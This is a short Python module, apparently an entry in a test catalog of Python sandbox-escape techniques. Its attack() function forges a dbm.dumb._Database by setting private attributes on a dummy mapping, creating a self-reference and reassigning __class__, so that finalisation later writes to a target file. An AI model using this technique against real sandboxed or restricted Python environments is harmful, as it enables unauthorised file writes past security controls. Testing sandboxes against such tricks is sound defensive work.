"""An object becomes one of the standard library before it goes."""
CATEGORY = "deferred"
REACH = "write"

import collections.abc
import dbm.dumb

from . import payload


class Own(collections.abc.MutableMapping):
    __getitem__ = __setitem__ = __delitem__ = __iter__ = __len__ = None


def attack():
    database = Own()
    database._index, database._modified = {}, True
    database._dirfile = payload.TARGET
    database._bakfile = payload.TARGET + ".bak"
    database._mode = 0o600
    database.itself = database
    database.__class__ = dbm.dumb._Database
